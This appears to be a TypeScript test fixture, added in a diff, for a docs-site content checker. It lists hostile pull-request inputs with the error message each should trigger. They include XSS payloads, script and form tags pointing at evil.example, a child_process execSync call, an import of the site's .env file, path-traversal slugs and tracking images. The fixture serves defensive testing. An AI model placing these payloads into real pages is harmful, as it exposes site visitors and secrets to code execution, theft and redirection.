@@ -1,0 +1,95 @@
+/** What a hostile pull request puts into a file, and what the check says of it: the line, the message, and what to do. */
+export type Try = readonly [name: string, file: string, content: string, says: RegExp];
+
+/** A page of the docs whose front matter is in order. Its text begins in line 8. */
+export const page = (text: string, more = ''): string =>
+  `---\ntitle: "A try"\ndescription: "A page that tries what a hostile pull request may put into the site."\npage_type: how-to\nverified: 2026-11-21\nsources: ["RFC 7946 section 3.1.6"]\n${more}---\n${text}\n`;
+/** A picture. */
+export const svg = (inner: string, more = ''): string =>
+  `<svg xmlns="http://www.w3.org/2000/svg" ${more}>${inner}</svg>\n`;
+
+/** Text of a page, and what the check says of its last line. */
+const texts: readonly [text: string, says: RegExp][] = [
+  ['<a href="java&#10;script:alert(1)">The record</a>', /<a href> has an address of the kind javascript:/],
+  [
+    '<Head><meta httpEquiv="refresh" content="0;url=https://evil.example" /></Head>',
+    /<meta> is not an element for pages\. .* elements in config\/pageRules\.ts/,
+  ],
+  [
+    "export const x = require('node:child_process').execSync('id').toString();",
+    /The page exports, or imports a module, .* pagesWithCode in config\/pageRules\.ts/,
+  ],
+  ['The user is {process.env.USER}.', /The page has an expression, .* pagesWithCode/],
+  ['<Term id={globalThis.process.exit(1)}>record</Term>', /<Term> has an expression/],
+  [
+    "<Details dangerouslySetInnerHTML={{__html: '<img src=x onerror=alert(1)>'}} />",
+    /<Details> has the attribute dangerouslySetInnerHTML/,
+  ],
+  ['<img src="/img/mark.svg" alt="A mark" onError="alert(1)" />', /<img> has the attribute onError/],
+  ['<script src="https://evil.example/a.js"></script>', /<script> is not an element/],
+  ['<form action="https://evil.example"><input name="key" /></form>', /<form> is not an element/],
+  ["<div style={{position: 'fixed', inset: 0}}>Update your wallet</div>", /<div> has the attribute style/],
+  ['<style>{`body {display: none}`}</style>', /<style> is not an element/],
+  ['Run `npm i @decentralized-geo/astral-sdk`.', /@decentralized-geo\/astral-sdk \(npm\)/],
+  ['<_components.script src="/a.js" />', /<_components\.script> is not an element/],
+  [
+    '<Figure kind="map" svg="<meta http-equiv=refresh content=0>" />',
+    /<Figure> has the attribute svg, .* pagesWithCode/,
+  ],
+  [
+    'import CodeBlock from \'@theme/CodeBlock\';\n\n<CodeBlock html="<meta http-equiv=refresh content=0>" />',
+    /<CodeBlock> has the attribute html/,
+  ],
+  ["<div {...eval('({})')}>Text</div>", /<div> has an expression/],
+  ['Set `to\u200bken` first.', /The code has U\+200B/],
+  ["import {execSync} from 'node:child_process';", /The page exports, or imports a module/],
+  ["import text from '!!raw-loader!@site/.env';", /The page exports, or imports a module/],
+  ["import x from './t39.js?.png';", /The page exports, or imports a module/],
+  ["import x from '@site/src/components/../../docs/t40.js';", /The page exports, or imports a module/],
+  ["import Part from '../tests/t41.mdx';", /The page exports, or imports a module/],
+  ["<a href={'\\x6aavascript:alert(1)'}>Text</a>", /<a href> has an address of the kind javascript:/],
+  ['[The record](javascript:alert(1))', /The link has an address of the kind javascript:/],
+  ['[The record](pathname://javascript:alert(1))', /The link has an address of the kind javascript:/],
+  ['[The record][a]\n\n[a]: <vbscript:msgbox(1)>', /The definition has an address of the kind vbscript:/],
+  ['[The record](/\\\\evil.example/x)', /The link is another site to browsers\. Write https:\/\//],
+  ['[The record](</&#9;&#47;evil.example>)', /The link is another site to browsers/],
+  ['import A from \'@docusaurus/Link\';\n\n<A to="//evil.example">A</A>', /<A to> is another site to browsers/],
+  [
+    '![A map](https://evil.example/count.png)',
+    /The image loads from another site\. .* origins in config\/pageRules\.ts/,
+  ],
+  ['![A map][a]\n\n[a]: https://evil.example/count.png', /The definition loads from another site/],
+  ['<img src="//evil.example/count.png" alt="A map" />', /<img src> loads from another site/],
+  ['<img src="http:evil.example/count.png" alt="A map" />', /<img src> loads from another site/],
+];
+
+/** The same in front matter. */
+const fields: readonly [yaml: string, says: RegExp][] = [
+  ['image: https://evil.example/card.png', /image loads from another site\. .* origins/],
+  ['authors: {name: A, url: "javascript:alert(1)"}', /url has an address of the kind javascript:/],
+  ['slug: /../../outside', /slug is no path below this site/],
+];
+
+/** What a picture holds. */
+const pictures: readonly [inner: string, says: RegExp][] = [
+  ['<use href="https://evil.example/a.svg#b"/>', /The picture has the address https:\/\/evil/],
+  [
+    '<style>g {background: image-set("https://evil.example/a.png" 1x)}</style>',
+    /The picture has a style that loads something/,
+  ],
+  ['<script>alert(1)</script>', /The picture has <script>/],
+];
+
+/** What a pull request with each of them is. */
+export const hostilePages: readonly Try[] = [
+  ...texts.map(([text, {source}], at): Try => {
+    const line = 8 + text.split('\n').length - 1;
+    return [text, `docs/text${at}.mdx`, page(text), new RegExp(`:${line}:1 ${source}`)];
+  }),
+  ...fields.map(([yaml, {source}], at): Try => {
+    return [yaml, `docs/field${at}.mdx`, page('Text.', `${yaml}\n`), new RegExp(`:7:1 ${source}`)];
+  }),
+  ...pictures.map(([inner, {source}], at): Try => {
+    return [inner, `static/img/picture${at}.svg`, svg(inner), new RegExp(`:1:1 ${source}`)];
+  }),
+];
